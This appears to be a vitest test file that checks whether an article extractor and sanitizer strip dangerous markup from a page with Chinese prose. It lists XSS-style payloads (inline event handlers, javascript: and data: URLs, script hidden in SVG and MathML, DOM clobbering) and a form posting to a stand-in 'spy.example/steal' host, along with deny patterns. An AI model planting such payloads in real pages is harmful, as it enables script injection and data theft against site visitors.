import { describe, expect, it } from 'vitest';
import { parsePage } from '@/scripts/clean/parse';
import { walk } from '@/utils/article/hast';
import { sanitizeContent } from '@/utils/article/sanitize';
import { exportArticle } from '@/utils/export/export-article';
import { readPage } from '@/utils/extract/read-page';

const url = 'https://hostile.example/news/1.html';
const prose =
  '山里的春天来得晚，杏花开的时候，平地上的桃花早已谢了。老人们说，花开得晚，果子才甜，这话我小时候不信，后来信了，也说给别人听。';

/** Markup that runs or loads something in each of the places where a page can put it. */
const poison: Record<string, string> = {
  'event handlers': `<p onclick="hit()" onmouseover="hit()">${prose}<img src="/a.jpg" onerror="hit()" width="300" height="200"></p>`,
  'script addresses': `<p>${prose}<a href="javascript:hit()">一</a><a href=" jAvA\tscript:hit()">二</a><a href="data:text/html,<script>hit()</script>">三</a><a href="vbscript:hit()">四</a></p>`,
  'image addresses': `<p>${prose}<img src="javascript:hit()"><img src="data:image/svg+xml,<svg onload='hit()'/>"><img src="blob:https://x/1"><img data-src="javascript:hit()"></p>`,
  'frames and objects': `<p>${prose}</p><iframe srcdoc="<script>hit()</script>"></iframe><object data="x.swf"></object><embed src="x.swf">`,
  'vector images': `<p>${prose}<svg><script>hit()</script><a xlink:href="javascript:hit()"><text>点</text></a><animate onbegin="hit()"></svg></p>`,
  mathematics: `<p>${prose}<math href="javascript:hit()"><mtext><style><img src=x onerror=hit()></style></mtext><annotation-xml encoding="text/html"><script>hit()</script></annotation-xml></math></p>`,
  styles: `<p style="background:url(https://spy.example/p.gif)" class="x">${prose}</p><style>@import 'https://spy.example/a.css'</style><link rel="stylesheet" href="https://spy.example/b.css">`,
  forms: `<form action="https://spy.example/steal"><p>${prose}<input name="q"><button formaction="javascript:hit()">确定</button></p></form>`,
  'templates and noscript': `<p>${prose}</p><noscript><img src="https://spy.example/n.gif" onerror="hit()"></noscript><template><img src=x onerror=hit()></template>`,
  clobbering: `<form id="body"><input name="cloneNode"><input name="querySelectorAll"><input name="attributes"></form><p id="documentElement">${prose}</p><img name="title"><a id="URL" href="x">x</a>`,
  meta: `<meta http-equiv="refresh" content="0;url=javascript:hit()"><base href="javascript:hit()"><p>${prose}<a href="/next">下一页</a></p>`,
};

const allowed = new Set([
  'href',
  'src',
  'alt',
  'title',
  'width',
  'height',
  'start',
  'reversed',
  'colSpan',
  'rowSpan',
  'scope',
  'dateTime',
  'className',
  'display',
  'alttext',
  'encoding',
  'dataEmbed',
  'dataTex',
  'dataPostAuthor',
  'dataPostTime',
  'lang',
  'dir',
]);

describe.each(Object.entries(poison))('a page with %s', (_, html) => {
  const document = parsePage(
    `<!doctype html><html><head><title>杏花</title></head><body><article><h1>杏花</h1><p>${prose}</p>${html}<p>${prose}</p></article></body></html>`,
    url,
  );
  const before = document.documentElement.outerHTML;
  const reading = readPage(document, { url });
  if (!reading.ok) throw new Error(reading.outcome);
  const { article } = reading;

  it('gives an article that holds no more than the schema allows', () => {
    const roots = [
      article.content,
      ...article.removals.map((removal) => ({ type: 'root' as const, children: removal.content })),
    ];
    for (const root of roots)
      walk(root, (node) => {
        if (node.type !== 'element') return;
        expect(node.tagName).not.toMatch(
          /^(?:script|style|iframe|object|embed|svg|form|input|button|link|meta|base|template)$/,
        );
        for (const [name, value] of Object.entries(node.properties)) {
          expect(allowed).toContain(name);
          if (name === 'href') expect(String(value)).toMatch(/^(?:https?:|mailto:)/);
          if (name === 'src')
            expect(String(value)).toMatch(/^(?:https?:|data:image\/(?:png|jpe?g|gif|webp|avif|bmp);base64,)/);
        }
      });
  });

  it('exports nothing that runs', () => {
    for (const format of ['html', 'markdown'] as const) {
      const { text } = exportArticle(article, format);
      expect(text).not.toMatch(/<script|javascript:|\son\w+=|srcdoc|<iframe|<svg|vbscript:/i);
    }
  });

  it('keeps the prose and leaves the page alone', () => {
    expect(JSON.stringify(article.content)).toContain(prose.slice(0, 20));
    expect(document.documentElement.outerHTML).toBe(before);
  });
});

describe('sanitizeContent', () => {
  it('drops what no extraction made: scripts, handlers, styles and addresses that run', () => {
    const clean = sanitizeContent({
      type: 'root',
      children: [
        { type: 'element', tagName: 'script', properties: {}, children: [{ type: 'text', value: 'hit()' }] },
        {
          type: 'element',
          tagName: 'p',
          properties: { onclick: 'hit()', style: 'x', id: 'y' },
          children: [{ type: 'text', value: 'a', data: { offset: 3 } }],
        },
        { type: 'element', tagName: 'a', properties: { href: 'javascript:hit()' }, children: [] },
        {
          type: 'element',
          tagName: 'img',
          properties: { src: 'data:image/svg+xml;base64,PHN2Zz4=' },
          children: [],
        },
        { type: 'element', tagName: 'img', properties: { src: 'data:image/png;base64,AAAA' }, children: [] },
      ],
    });
    expect(clean.children).toEqual([
      {
        type: 'element',
        tagName: 'p',
        properties: {},
        children: [{ type: 'text', value: 'a', data: { offset: 3 } }],
      },
      { type: 'element', tagName: 'a', properties: {}, children: [] },
      { type: 'element', tagName: 'img', properties: { src: 'data:image/png;base64,AAAA' }, children: [] },
    ]);
  });
});
